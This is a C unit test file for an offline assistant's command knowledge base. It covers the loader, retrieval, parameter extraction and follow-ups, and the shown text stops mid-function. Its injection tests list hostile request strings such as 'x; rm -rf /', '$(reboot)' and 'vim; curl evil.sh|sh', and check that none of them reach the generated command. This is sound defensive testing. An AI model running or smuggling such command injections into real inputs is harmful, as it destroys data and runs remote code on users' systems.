/* Unit tests for the offline assistant's knowledge base and retrieval (src/assistant/kb.c,
 * kb_index.c, kb_params.c, retrieve.c), on the fixtures of tests/unit/assistant/kb_fixtures
 * (good/: a small base covering every parameter type; bad/: one file per broken rule) and on
 * the real knowledge/ directory:
 *   - the loader: the good base, every rule of the format (the error names the file, the
 *     entry and the problem), the synonyms' rules, directories;
 *   - value types: what each accepts, and that no shell metacharacter ever passes;
 *   - retrieval: French and English wordings, synonyms, domain steering, nothing-fits for
 *     off-topic requests, follow-ups, language detection, the answer's text;
 *   - parameters: each type extracted from a request, and injection attempts never reaching
 *     the action;
 *   - thread safety: answers from several threads at once equal the single-threaded ones;
 *   - the real base: at least 150 entries, each phrasing finds its entry in the top 3, and
 *     the accuracy on kb_eval.yaml stays above its threshold (figures printed).
 * Paths: SOURCE_ROOT (set by meson) or "..", and CLOUDYA_KNOWLEDGE_DIR for the real base. */
#define _POSIX_C_SOURCE 200809L
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <errno.h>
#include <jansson.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "kb.h"
#include "retrieve.h"
#include "yaml_load.h"

#ifndef SOURCE_ROOT
#define SOURCE_ROOT ".."
#endif
#define FIXTURES SOURCE_ROOT "/tests/unit/assistant/kb_fixtures"
#define EVAL_FILE SOURCE_ROOT "/tests/unit/assistant/kb_eval.yaml"

/* Thresholds for the real base, set from the measured figures (see the report printed by
 * test_real_knowledge and tools/kb_eval) with a margin for the knowledge files' growth. */
#define REAL_MIN_ENTRIES 150
#define REAL_MIN_SELF_TOP3 0.99
#define REAL_MIN_EVAL 0.90

static kb *K; /* the good fixture base */
static struct kb_answer A;
static char err[512];

static int group_setup(void **state)
{
    (void)state;
    int rc = kb_load_dir(FIXTURES "/good", &K, err, sizeof err);
    if (rc != 0)
        fprintf(stderr, "fixture base: %s\n", err);
    return rc;
}

static int group_teardown(void **state)
{
    (void)state;
    kb_free(K);
    return 0;
}

/* kb_answer on the fixture base; returns its result. */
static int ask(const char *req)
{
    return kb_answer(K, req, NULL, 0, NULL, &A);
}

static void expect_entry(const char *req, const char *id)
{
    int rc = ask(req);
    if (rc != 0 || strcmp(kb_entry_id(A.entry), id) != 0)
        fail_msg("\"%s\": want %s, got %s", req, id, rc == 0 ? kb_entry_id(A.entry) : "none");
}

static const char *param(const char *name)
{
    for (size_t i = 0; i < A.nparams; i++)
        if (strcmp(A.params[i].name, name) == 0)
            return A.params[i].value;
    fail_msg("no parameter %s", name);
    return NULL;
}

static int from_request(const char *name)
{
    for (size_t i = 0; i < A.nparams; i++)
        if (strcmp(A.params[i].name, name) == 0)
            return A.params[i].from_request;
    return -1;
}

/* ---- loader ------------------------------------------------------------------------ */

static void test_load_good(void **state)
{
    (void)state;
    assert_int_equal(kb_count(K), 19); /* policy.yaml skipped */
    const kb_entry *e = kb_find(K, "k8s.scale-deployment");
    assert_non_null(e);
    assert_null(kb_find(K, "k8s.nope"));
    assert_string_equal(kb_entry_id(e), "k8s.scale-deployment");
    assert_string_equal(kb_entry_domain(e), "kubernetes");
    assert_string_equal(kb_entry_command(e),
                        "kubectl scale deployment {name} --replicas={replicas} -n {namespace}");
    assert_string_equal(kb_entry_risk(e), "warning");
    assert_non_null(strstr(kb_entry_explanation(e, "fr"), "change le nombre"));
    assert_non_null(strstr(kb_entry_explanation(e, "en"), "changes the desired"));
    assert_non_null(strstr(kb_entry_practice(e, "xx"), "HorizontalPodAutoscaler"));
    const char *const *p;
    assert_int_equal(kb_entry_phrasings(e, "fr", &p), 3);
    assert_string_equal(p[0], "mettre le déploiement web à 5 réplicas");
    assert_int_equal(kb_entry_param_count(e), 3);
    assert_string_equal(kb_entry_param_name(e, 1), "replicas");
    assert_int_equal(kb_entry_param_type(e, 1), KB_P_COUNT);
    assert_string_equal(kb_entry_param_default(e, 1), "3"); /* an integer in YAML */
    assert_string_equal(kb_entry_param_default(kb_find(K, "k8s.set-image"), 2), "nginx:1.25");
    assert_string_equal(kb_entry_risk(kb_find(K, "k8s.delete-namespace")), "dangerous");
    assert_non_null(kb_entry_at(K, 0));
    assert_null(kb_entry_at(K, 19));
}

static const struct {
    const char *file;
    int rc;
    const char *want[3]; /* substrings of the error */
} bad_cases[] = {
    {"unknown_top_key.yaml", -EINVAL, {"unknown key \"version\""}},
    {"bad_domain.yaml", -EINVAL, {"domain must be one of"}},
    {"no_entries.yaml", -EINVAL, {"entries must be a non-empty list"}},
    {"unknown_entry_key.yaml", -EINVAL, {"entry k8s.get-pods", "unknown key \"tags\""}},
    {"bad_id.yaml", -EINVAL, {"bad id"}},
    {"no_id.yaml", -EINVAL, {"no id"}},
    {"duplicate_id.yaml", -EINVAL, {"entry k8s.get-pods", "already used"}},
    {"missing_lang.yaml", -EINVAL, {"entry k8s.get-pods", "intent.fr"}},
    {"empty_phrasings.yaml", -EINVAL, {"intent.en must be a list of at least 1"}},
    {"unknown_lang.yaml", -EINVAL, {"intent: unknown key \"de\""}},
    {"phrasing_not_string.yaml", -EINVAL, {"intent.en must be a string"}},
    {"placeholder_undeclared.yaml", -EINVAL, {"placeholder {selector} is not declared"}},
    {"param_unused.yaml", -EINVAL, {"params.selector is not used"}},
    {"bad_type.yaml", -EINVAL, {"params.namespace: type must be one of"}},
    {"no_default.yaml", -EINVAL, {"params.namespace: a default is required"}},
    {"bad_default.yaml", -EINVAL, {"the default My Namespace is not a valid name"}},
    {"bad_default_port.yaml", -EINVAL, {"the default 70000 is not a valid port"}},
    {"unknown_param_key.yaml", -EINVAL, {"params.namespace: unknown key \"regex\""}},
    {"bad_param_name.yaml", -EINVAL, {"params.Name-Space: a parameter name"}},
    {"bad_cue.yaml", -EINVAL, {"params.namespace.after must be a non-empty list"}},
    {"bad_risk.yaml", -EINVAL, {"risk must be safe, warning or dangerous"}},
    {"sudo.yaml", -EINVAL, {"no sudo"}},
    {"placeholder_program.yaml", -EINVAL, {"no placeholder in the program"}},
    {"multiline_command.yaml", -EINVAL, {"command holds a control character"}},
    {"missing_practice_fr.yaml", -EINVAL, {"practice.fr must be a string"}},
    {"long_command.yaml", -E2BIG, {"command is longer than 1024 bytes"}},
    {"yaml_syntax.yaml", -EINVAL, {"line"}},
    {"yaml_alias.yaml", -EINVAL, {"alias"}},
};

static void test_loader_errors(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof bad_cases / sizeof *bad_cases; i++) {
        char path[512];
        snprintf(path, sizeof path, FIXTURES "/bad/%s", bad_cases[i].file);
        const char *files[] = {FIXTURES "/good/synonyms.yaml", path};
        kb *k = (kb *)1;
        err[0] = '\0';
        int rc = kb_load_files(files, 2, &k, err, sizeof err);
        if (rc != bad_cases[i].rc)
            fail_msg("%s: rc %d, want %d (%s)", bad_cases[i].file, rc, bad_cases[i].rc, err);
        assert_null(k);
        if (strstr(err, bad_cases[i].file) == NULL)
            fail_msg("%s: the error does not name the file: %s", bad_cases[i].file, err);
        for (size_t j = 0; j < 3 && bad_cases[i].want[j] != NULL; j++)
            if (strstr(err, bad_cases[i].want[j]) == NULL)
                fail_msg("%s: error \"%s\" lacks \"%s\"", bad_cases[i].file, err,
                         bad_cases[i].want[j]);
    }
}

static void test_synonym_errors(void **state)
{
    (void)state;
    static const struct {
        const char *dir, *want;
    } cases[] = {
        {"syn_bad_top", "one key, synonyms"},
        {"syn_small_group", "group 1 must be a list of 2"},
        {"syn_only_stopwords", "\"what are\" has no word that counts"},
        {"syn_too_many_groups", "\"run\" is in more than 3 groups"},
        {"syn_not_string", "group 1: term 2 is not a string"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char path[512];
        snprintf(path, sizeof path, FIXTURES "/bad/syn/%s/synonyms.yaml", cases[i].dir);
        const char *files[] = {path, FIXTURES "/good/kubernetes.yaml"};
        kb *k = NULL;
        int rc = kb_load_files(files, 2, &k, err, sizeof err);
        assert_int_equal(rc, -EINVAL);
        if (strstr(err, cases[i].want) == NULL || strstr(err, "synonyms.yaml") == NULL)
            fail_msg("%s: error \"%s\" lacks \"%s\"", cases[i].dir, err, cases[i].want);
    }
}

static void test_load_dirs(void **state)
{
    (void)state;
    kb *k = (kb *)1;
    assert_int_equal(kb_load_dir(FIXTURES "/does-not-exist", &k, err, sizeof err), -ENOENT);
    assert_null(k);
    assert_non_null(strstr(err, "does-not-exist"));
    /* a directory with only synonyms has no entries */
    assert_int_equal(kb_load_dir(FIXTURES "/bad/syn/syn_small_group", &k, err, sizeof err),
                     -EINVAL);
    const char *only_syn[] = {FIXTURES "/good/synonyms.yaml"};
    assert_int_equal(kb_load_files(only_syn, 1, &k, err, sizeof err), -ENOENT);
    /* the same ids from two files: the error names both */
    const char *twice[] = {FIXTURES "/good/git.yaml", FIXTURES "/good/git.yaml"};
    assert_int_equal(kb_load_files(twice, 2, &k, err, sizeof err), -EINVAL);
    assert_non_null(strstr(err, "already used (in"));
    const char *two_syn[] = {FIXTURES "/good/synonyms.yaml", FIXTURES "/good/synonyms.yaml",
                             FIXTURES "/good/git.yaml"};
    assert_int_equal(kb_load_files(two_syn, 3, &k, err, sizeof err), -EINVAL);
    assert_non_null(strstr(err, "a second synonyms file"));
    /* a base without synonyms loads (nothing joins "créer" and "create" then) */
    const char *nosyn[] = {FIXTURES "/good/kubernetes.yaml"};
    assert_int_equal(kb_load_files(nosyn, 1, &k, err, sizeof err), 0);
    assert_int_equal(kb_count(k), 6);
    kb_free(k);
    kb_free(NULL);
}

/* ---- value types ------------------------------------------------------------------- */

static void test_value_types(void **state)
{
    (void)state;
    static const struct {
        enum kb_ptype t;
        const char *ok[4], *bad[4];
    } cases[] = {
        {KB_P_NAME, {"my-app", "web_1", "a.b", "X9"}, {"-rf", "my app", "a;b", "é"}},
        {KB_P_COUNT, {"0", "5", "1000000", NULL}, {"-1", "1000001", "5x", "1.5"}},
        {KB_P_PORT, {"1", "8080", "65535", NULL}, {"0", "65536", "80a", ""}},
        {KB_P_REGION, {"eu-west-3", "europe-west1", "westeurope", NULL}, {"eu west", "-eu", "eu-", "a$b"}},
        {KB_P_IMAGE, {"nginx", "nginx:1.25", "ghcr.io/org/app:v2", "a@sha256:ab"}, {"nginx 1", "$(x)", "-x", "a|b"}},
        {KB_P_CIDR, {"10.0.0.0/16", "0.0.0.0/0", "fd00::/8", NULL}, {"10.0.0.0", "10.0.0.0/33", "300.0.0.0/8", "10.0.0.0/"}},
        {KB_P_IP, {"10.0.0.5", "::1", "2001:db8::1", NULL}, {"10.0.0.256", "10.0.0", "a.b.c.d", "1.2.3.4;"}},
        {KB_P_PATH, {"/var/log", "./app", "~/x", "data.txt"}, {"/a b", "/a;b", "$HOME/x", "/a~b"}},
        {KB_P_SIZE, {"20", "1", "1024", NULL}, {"0", "20GB", "-5", "1234567"}},
        {KB_P_DURATION, {"30s", "5m", "2h", "7d"}, {"30", "5 m", "h", "5y"}},
        {KB_P_INSTANCE_TYPE, {"t3.micro", "e2-medium", "Standard_B2s", NULL}, {"t3 micro", "t3;micro", "-t3", ""}},
        {KB_P_URL, {"https://example.com", "http://a.b/c?d=e#f", NULL, NULL}, {"ftp://x", "https://a.b/$(id)", "https://a&b", "https://"}},
        {KB_P_EMAIL, {"a@b.io", "first.last+x@ex-ample.com", NULL, NULL}, {"a@b", "@b.io", "a b@c.io", "a@b@c.io"}},
        {KB_P_USER, {"bob", "deploy_1", "_svc", NULL}, {"bob smith", "-bob", "bob;id", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}},
        {KB_P_VERSION, {"1.28", "3.12.1", "v1.2.3", "1.28.0-rc1"}, {"1..2", "v", "1.2.3.4.5", "1.2;x"}},
        {KB_P_WORD, {"htop", "app=web", "@scope/pkg", "a:b/c+d"}, {"-x", "a b", "a;b", "`x`"}},
    };
    char long_name[KB_VALUE_MAX + 2];
    memset(long_name, 'a', sizeof long_name - 1);
    long_name[sizeof long_name - 1] = '\0';
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        for (size_t j = 0; j < 4 && cases[i].ok[j] != NULL; j++)
            if (!kb_value_valid(cases[i].t, cases[i].ok[j]))
                fail_msg("%s should accept \"%s\"", kb_ptype_name(cases[i].t), cases[i].ok[j]);
        for (size_t j = 0; j < 4 && cases[i].bad[j] != NULL; j++)
            if (kb_value_valid(cases[i].t, cases[i].bad[j]))
                fail_msg("%s should refuse \"%s\"", kb_ptype_name(cases[i].t), cases[i].bad[j]);
        assert_false(kb_value_valid(cases[i].t, long_name));
        assert_false(kb_value_valid(cases[i].t, NULL));
        /* no type ever accepts a shell metacharacter, a quote or white space */
        for (const char *m = "'\"`$;|&<>(){}[]*\\! \t\n"; *m != '\0'; m++) {
            char v[32];
            snprintf(v, sizeof v, "https://a%cb", *m);
            assert_false(kb_value_valid(cases[i].t, v));
            snprintf(v, sizeof v, "ab%ccd", *m);
            assert_false(kb_value_valid(cases[i].t, v));
        }
    }
    enum kb_ptype t;
    assert_int_equal(kb_ptype_parse("instance_type", &t), 0);
    assert_int_equal(t, KB_P_INSTANCE_TYPE);
    assert_int_equal(kb_ptype_parse("integer", &t), -EINVAL);
    long_name[KB_VALUE_MAX] = '\0';
    assert_true(kb_value_valid(KB_P_NAME, long_name)); /* exactly the limit */
}

/* ---- retrieval --------------------------------------------------------------------- */

static void test_search_wordings(void **state)
{
    (void)state;
    static const struct {
        const char *req, *id;
    } cases[] = {
        {"scale my deployment web to 5 replicas", "k8s.scale-deployment"},
        {"augmenter les réplicas du déploiement", "k8s.scale-deployment"}, /* accents */
        {"augmenter les replicas du deploiement", "k8s.scale-deployment"}, /* none */
        {"show pods", "k8s.get-pods"},
        {"afficher mes pods stp", "k8s.get-pods"},
        {"k8s ls pods", "k8s.get-pods"},                     /* synonyms: ls, k8s */
        {"journaux du pod api", "k8s.logs-pod"},
        {"effacer le namespace recette", "k8s.delete-namespace"},
        {"nouveau namespace", "k8s.create-namespace"},
        {"créer un seau s3", "aws.s3-create-bucket"},
        {"spin up a vm", "aws.ec2-run-instance"},            /* multi-word synonym */
        {"ouvrir le port 22 du groupe de sécurité", "aws.sg-open-port"},
        {"combien pèse /home", "linux.dir-size"},
        {"installer le paquet jq", "linux.apt-install"},
        {"cloner le dépôt https://github.com/a/b.git", "git.clone"},
        {"Créer un tag v2.0.0", "git.tag-create"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        kb_hit h[3];
        int n = kb_search(K, cases[i].req, h, 3);
        if (n < 1 || strcmp(kb_entry_id(h[0].entry), cases[i].id) != 0)
            fail_msg("\"%s\": want %s, got %s", cases[i].req, cases[i].id,
                     n > 0 ? kb_entry_id(h[0].entry) : "nothing");
        assert_true(h[0].confidence > 0 && h[0].confidence <= 1);
        for (int j = 1; j < n; j++)
            assert_true(h[j].score <= h[j - 1].score);
        expect_entry(cases[i].req, cases[i].id);
    }
    kb_hit h[2];
    assert_int_equal(kb_search(K, "zzzz qqqq", h, 2), 0);
    assert_int_equal(kb_search(K, "pods", h, 0), 0);
    assert_int_equal(kb_search(NULL, "pods", h, 2), -EINVAL);
    assert_int_equal(kb_search(K, NULL, h, 2), -EINVAL);
}

/* Requests that say the same thing in other words rank the entries identically. */
static void test_synonyms(void **state)
{
    (void)state;
    static const char *const pairs[][2] = {
        {"make a namespace", "créer un espace de noms"},
        {"delete the bucket", "supprimer le compartiment"},
        {"k8s show pods", "kubernetes lister les pods"},
        {"spin up a virtual machine", "create a vm"},
        {"journaux du pod", "logs of the pod"},
    };
    for (size_t i = 0; i < sizeof pairs / sizeof *pairs; i++) {
        kb_hit h1[5], h2[5];
        int n1 = kb_search(K, pairs[i][0], h1, 5), n2 = kb_search(K, pairs[i][1], h2, 5);
        if (n1 < 1 || n1 != n2)
            fail_msg("\"%s\" / \"%s\": %d and %d hits", pairs[i][0], pairs[i][1], n1, n2);
        for (int j = 0; j < n1; j++) {
            assert_ptr_equal(h1[j].entry, h2[j].entry);
            assert_true(h1[j].score == h2[j].score);
        }
    }
}

static void test_domain_steering(void **state)
{
    (void)state;
    /* "instances" is a VM and a replica; naming the domain decides */
    expect_entry("launch new instances on aws", "aws.ec2-run-instance");
    expect_entry("kubernetes: 4 instances of deployment api", "k8s.scale-deployment");
}

static void test_nothing_fits(void **state)
{
    (void)state;
    static const char *const off[] = {
        "what is the weather in Paris", "écris-moi un poème", "bonjour", "hello",
        "asdkjh qwpoe zmxncb", "merci beaucoup !", "", "   ", "???", "tell me a joke",
        "recette de la tarte aux pommes",
    };
    for (size_t i = 0; i < sizeof off / sizeof *off; i++) {
        int rc = ask(off[i]);
        if (rc != -ENOENT)
            fail_msg("\"%s\" should fit nothing, got %s", off[i], kb_entry_id(A.entry));
        assert_null(A.entry);
        assert_string_equal(A.action, "");
        assert_int_equal(A.nparams, 0);
        assert_true(strlen(A.explanation) > 20);
    }
    assert_int_equal(ask("écris-moi un poème"), -ENOENT);
    assert_string_equal(A.lang, "fr");
    assert_non_null(strstr(A.explanation, "Je ne connais pas de commande"));
    assert_int_equal(ask("tell me a joke"), -ENOENT);
    assert_string_equal(A.lang, "en");
    assert_non_null(strstr(A.explanation, "I don't know a command"));
    /* somewhat close requests name the closest topics, never a command */
    assert_int_equal(ask("what is the weather in Paris"), -ENOENT);
    assert_non_null(strstr(A.explanation, "Closest topics: \"create an s3 bucket\" (aws)"));
    assert_null(strstr(A.explanation, "aws s3 mb"));
    assert_int_equal(kb_answer(NULL, "x", NULL, 0, NULL, &A), -EINVAL);
    assert_int_equal(kb_answer(K, NULL, NULL, 0, NULL, &A), -EINVAL);
    assert_int_equal(kb_answer(K, "x", NULL, 0, NULL, NULL), -EINVAL);
}

static void test_answer_text(void **state)
{
    (void)state;
    assert_int_equal(ask("scale deployment api to 7 replicas"), 0);
    assert_string_equal(A.lang, "en");
    assert_string_equal(A.action, "kubectl scale deployment api --replicas=7 -n default");
    assert_string_equal(A.explanation,
                        "`kubectl scale deployment api` changes the desired replica count; "
                        "`--replicas=7` is the new count; `-n default` the namespace.\n\n"
                        "**Best practice:** Prefer a HorizontalPodAutoscaler for load-driven "
                        "scaling.\n\nReplace `default` with your namespace name.");
    assert_true(A.confidence > 0.5 && A.confidence <= 1);
    assert_int_equal(A.nparams, 3);
    assert_int_equal(from_request("name"), 1);
    assert_int_equal(from_request("namespace"), 0);

    assert_int_equal(ask("créer un bucket s3"), 0);
    assert_string_equal(A.lang, "fr");
    assert_non_null(strstr(A.explanation, "\n\n**Bonne pratique :** Bloquez"));
    assert_non_null(strstr(A.explanation, "Remplacez `my-bucket` par le nom de votre bucket et "
                                          "`eu-west-3` par votre région."));
    /* every parameter from the request: no sentence about placeholders */
    assert_int_equal(ask("scale deployment api to 7 replicas in namespace shop"), 0);
    assert_null(strstr(A.explanation, "Replace"));
    /* the language asked for wins over the detected one */
    assert_int_equal(kb_answer(K, "créer un bucket s3", NULL, 0, "en", &A), 0);
    assert_string_equal(A.lang, "en");
    assert_non_null(strstr(A.explanation, "**Best practice:**"));
    assert_int_equal(kb_answer(K, "create a bucket", NULL, 0, "de", &A), 0);
    assert_string_equal(A.lang, "en");
}

static void test_detect_lang(void **state)
{
    (void)state;
    static const struct {
        const char *text, *lang;
    } cases[] = {
        {"Créer un bucket S3 sécurisé", "fr"}, {"creer un bucket", "fr"},
        {"lister les pods", "fr"},             {"voir les logs d'un pod", "fr"},
        {"redémarrer nginx", "fr"},            {"scale my deployment web", "en"},
        {"list pods", "en"},                   {"how do I create a bucket", "en"},
        {"k8s restart deployment", "en"},      {"", "en"},
        {"kubectl", "en"},                     {"supprime le pod stp", "fr"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        if (strcmp(kb_detect_lang(cases[i].text), cases[i].lang) != 0)
            fail_msg("\"%s\": want %s", cases[i].text, cases[i].lang);
    assert_string_equal(kb_detect_lang(NULL), "en");
}

/* ---- parameters -------------------------------------------------------------------- */

static void test_params_types(void **state)
{
    (void)state;
    /* name (after its cue, after a universal cue, before its cue), count, name after ns */
    expect_entry("scale deployment api to 7 replicas in namespace shop", "k8s.scale-deployment");
    assert_string_equal(param("name"), "api");
    assert_string_equal(param("replicas"), "7");
    assert_string_equal(param("namespace"), "shop");
    expect_entry("mettre le déploiement front à 4 réplicas dans l'espace de noms prod",
                 "k8s.scale-deployment");
    assert_string_equal(A.action, "kubectl scale deployment front --replicas=4 -n prod");
    expect_entry("kubectl scale the frontend deployment --replicas=6", "k8s.scale-deployment");
    assert_string_equal(param("name"), "frontend");
    assert_string_equal(param("replicas"), "6");
    expect_entry("scale deployment web to five replicas", "k8s.scale-deployment");
    assert_string_equal(param("replicas"), "5");
    expect_entry("scale deployment web to 12", "k8s.scale-deployment"); /* lone number */
    assert_string_equal(param("replicas"), "12");
    /* region: code, city, zone -> region */
    expect_entry("create a bucket called logs-2024 in eu-central-1", "aws.s3-create-bucket");
    assert_string_equal(param("bucket"), "logs-2024");
    assert_string_equal(param("region"), "eu-central-1");
    expect_entry("créer un bucket s3 nommé archives à Francfort", "aws.s3-create-bucket");
    assert_string_equal(param("bucket"), "archives");
    assert_string_equal(param("region"), "eu-central-1");
    expect_entry("créer un compartiment s3 sécurisé", "aws.s3-create-bucket");
    assert_string_equal(param("bucket"), "my-bucket"); /* not "s3", not "securise" */
    /* instance_type, zone, size (with its unit word), region from the zone */
    expect_entry("lancer une instance ec2 m5.large dans eu-west-1b avec un disque de 50 Go",
                 "aws.ec2-run-instance");
    assert_string_equal(param("type"), "m5.large");
    assert_string_equal(param("zone"), "eu-west-1b");
    assert_string_equal(param("size"), "50");
    assert_string_equal(param("region"), "eu-west-1");
    assert_non_null(strstr(A.action, "Ebs={VolumeSize=50}")); /* braces that are not ours */
    expect_entry("spin up a t3.large vm with a 1TB disk", "aws.ec2-run-instance");
    assert_string_equal(param("size"), "1024");
    assert_string_equal(param("type"), "t3.large");
    /* port, cidr, name after a two-word cue */
    expect_entry("open port 8443 from 192.168.0.0/24 in security group web-sg",
                 "aws.sg-open-port");
    assert_string_equal(A.action, "aws ec2 authorize-security-group-ingress --group-name "
                                  "web-sg --protocol tcp --port 8443 --cidr 192.168.0.0/24");
    /* path, user, ip, duration (two tokens), word, url, email, version, image */
    expect_entry("how big is the folder /srv/data", "linux.dir-size");
    assert_string_equal(param("path"), "/srv/data");
    expect_entry("créer l'utilisateur alice", "linux.user-add");
    assert_string_equal(param("user"), "alice");
    expect_entry("ping 10.1.2.3", "linux.ping");
    assert_string_equal(param("ip"), "10.1.2.3");
    expect_entry("logs of service sshd for the last 45 minutes", "linux.journal-since");
    assert_string_equal(param("unit"), "sshd");
    assert_string_equal(param("since"), "45m");
    expect_entry("journaux du service cron depuis 2 heures", "linux.journal-since");
    assert_string_equal(param("since"), "2h");
    expect_entry("installer le paquet jq", "linux.apt-install");
    assert_string_equal(param("package"), "jq");
    expect_entry("check that https://cloudya.io/health answers", "linux.curl-check");
    assert_string_equal(param("url"), "https://cloudya.io/health");
    expect_entry("set git email to dev@acme.io", "git.config-email");
    assert_string_equal(A.action, "git config --global user.email dev@acme.io");
    expect_entry("tag version 2.3.1", "git.tag-create");
    assert_string_equal(param("version"), "2.3.1");
    expect_entry("run redis:7 on port 6379 named cache", "docker.run-detached");
    assert_string_equal(A.action, "docker run -d --name cache -p 6379:80 redis:7");
    expect_entry("update deployment web to image ghcr.io/acme/web:v2", "k8s.set-image");
    assert_string_equal(param("image"), "ghcr.io/acme/web:v2");
    /* quoted names */
    expect_entry("create bucket named 'team-data'", "aws.s3-create-bucket");
    assert_string_equal(param("bucket"), "team-data");
    /* explanation and practice get the values too */
    expect_entry("delete namespace sandbox", "k8s.delete-namespace");
    assert_non_null(strstr(A.explanation, "`kubectl get all -n sandbox`"));
}

static void test_params_injection(void **state)
{
    (void)state;
    static const char *const attacks[] = {
        "create bucket named \"x; rm -rf /\"",
        "create bucket named 'x && reboot'",
        "scale deployment $(reboot) to 3 replicas",
        "scale deployment `reboot` to 3 replicas",
        "scale deployment web;reboot to 3 replicas",
        "scale deployment web|sh to 3 replicas",
        "scale deployment a>b to 3 replicas",
        "delete namespace ${IFS}x",
        "delete namespace -rf",
        "delete namespace --all",
        "check https://a.io/$(id)",
        "check https://a.io/x&y=1",
        "check \"https://a.io/ x\"",
        "how big is /tmp;id",
        "how big is the folder \"/a b\"",
        "set git email to a@b.io;id",
        "install package \"vim; curl evil.sh|sh\"",
        "créer l'utilisateur \"bob\nid\"",
        "run \"nginx$(id)\" on port 80",
        "ping 10.0.0.1;reboot",
    };
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) {
        int rc = ask(attacks[i]);
        if (rc != 0)
            continue; /* nothing fits: no action at all */
        for (const char *m = "`$;|<>\n"; *m != '\0'; m++)
            if (strchr(A.action, *m) != NULL &&
                strchr(kb_entry_command(A.entry), *m) == NULL)
                fail_msg("\"%s\" put '%c' in the action: %s", attacks[i], *m, A.action);
        for (size_t j = 0; j < A.nparams; j++) {
            const char *v = A.params[j].value;
            if (strpbrk(v, "`$;|&<> \"'\n()") != NULL || v[0] == '-')
                fail_msg("\"%s\": parameter %s = \"%s\"", attacks[i], A.params[j].name, v);
            if (strstr(v, "reboot") != NULL || strcmp(v, "id") == 0)
                fail_msg("\"%s\": shell word taken as %s = %s", attacks[i], A.params[j].name, v);
        }
    }
    ask("scale deployment $(reboot) to 3 replicas");
    assert_string_equal(param("name"), "my-app");
    assert_int_equal(from_request("name"), 0);
    ask("delete namespace -rf");
    assert_string_equal(A.action, "kubectl delete namespace my-namespace");
}

/* ---- follow-ups -------------------------------------------------------------------- */

static void test_followups(void **state)
{
    (void)state;
    const char *c1[] = {"scale my deployment web to 5 replicas"};
    assert_int_equal(kb_answer(K, "and with 10 replicas?", c1, 1, NULL, &A), 0);
    assert_string_equal(kb_entry_id(A.entry), "k8s.scale-deployment");
    assert_string_equal(A.action, "kubectl scale deployment web --replicas=10 -n default");
    const char *c2[] = {"list pods", "créer un bucket s3 nommé data-lake"};
    assert_int_equal(kb_answer(K, "et dans la région eu-west-1 ?", c2, 2, NULL, &A), 0);
    assert_string_equal(A.action, "aws s3 mb s3://data-lake --region eu-west-1");
    assert_string_equal(A.lang, "fr");
    const char *c3[] = {"create namespace feature-x"};
    assert_int_equal(kb_answer(K, "now delete it", c3, 1, NULL, &A), 0);
    assert_string_equal(A.action, "kubectl delete namespace feature-x");
    /* three turns: the topic and the values of the whole conversation, latest first */
    const char *c6[] = {"scale deployment web to 5 replicas", "and with 10 replicas?"};
    assert_int_equal(kb_answer(K, "now in namespace shop", c6, 2, NULL, &A), 0);
    assert_string_equal(A.action, "kubectl scale deployment web --replicas=10 -n shop");
    const char *c7[] = {"créer un bucket s3 nommé data-lake", "et dans la région eu-west-1 ?"};
    assert_int_equal(kb_answer(K, "et avec le nom logs-prod", c7, 2, NULL, &A), 0);
    assert_string_equal(A.action, "aws s3 mb s3://logs-prod --region eu-west-1");
    /* a new topic is not pulled back to the conversation, nor does it take its values */
    const char *c4[] = {"create an s3 bucket named x-logs"};
    assert_int_equal(kb_answer(K, "list pods in namespace dev", c4, 1, NULL, &A), 0);
    assert_string_equal(A.action, "kubectl get pods -n dev");
    assert_int_equal(kb_answer(K, "list pods", c4, 1, NULL, &A), 0);
    assert_string_equal(A.action, "kubectl get pods -n default");
    /* off-topic stays off-topic; empty and NULL context entries are ignored */
    const char *c5[] = {"list pods", NULL, ""};
    assert_int_equal(kb_answer(K, "what is the weather in Paris", c5, 3, NULL, &A), -ENOENT);
    assert_int_equal(kb_answer(K, "show pods", c5, 3, NULL, &A), 0);
    assert_int_equal(kb_answer(K, "show pods", NULL, 3, NULL, &A), 0);
}

/* ---- threads ----------------------------------------------------------------------- */

static const char *const thread_reqs[] = {
    "scale deployment api to 7 replicas",  "créer un bucket s3 nommé logs à Paris",
    "what is the weather",                 "how big is /var/lib",
    "run redis:7 on port 6379 named cache", "journaux du service cron depuis 2 heures",
};
#define NREQ (sizeof thread_reqs / sizeof *thread_reqs)
static char want_action[NREQ][KB_ACTION_MAX];

static void *thread_main(void *arg)
{
    struct kb_answer *a = malloc(sizeof(*a));
    long bad = 0;
    for (int round = 0; round < 50 && a != NULL; round++)
        for (size_t i = 0; i < NREQ; i++) {
            size_t j = (i + (size_t)(uintptr_t)arg) % NREQ;
            kb_answer(K, thread_reqs[j], NULL, 0, NULL, a);
            bad += strcmp(a->action, want_action[j]) != 0;
        }
    free(a);
    return (void *)bad;
}

static void test_threads(void **state)
{
    (void)state;
    pthread_t th[4];
    for (size_t i = 0; i < NREQ; i++) {
        ask(thread_reqs[i]);
        snprintf(want_action[i], sizeof want_action[i], "%s", A.action);
    }
    for (uintptr_t i = 0; i < 4; i++)
        assert_int_equal(pthread_create(&th[i], NULL, thread_main, (void *)i), 0);
    for (int i = 0; i < 4; i++) {
        void *bad;
        assert_int_equal(pthread_join(th[i], &bad), 0);
        assert_null(bad);
    }
}

/* ---- the real knowledge base -------------------------------------------------------- */

static double now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

static int id_expected(json_t *want, const char *got)
{
    if (json_is_string(want))
        return strcmp(json_string_value(want), "none") == 0
                   ? got == NULL
                   : got != NULL && strcmp(json_string_value(want), got) == 0;
    for (size_t i = 0; i < json_array_size(want); i++)
        if (id_expected(json_array_get(want, i), got))
            return 1;
    return 0;
}

static int id_known(const kb *k, json_t *want)
{
    if (json_is_string(want))
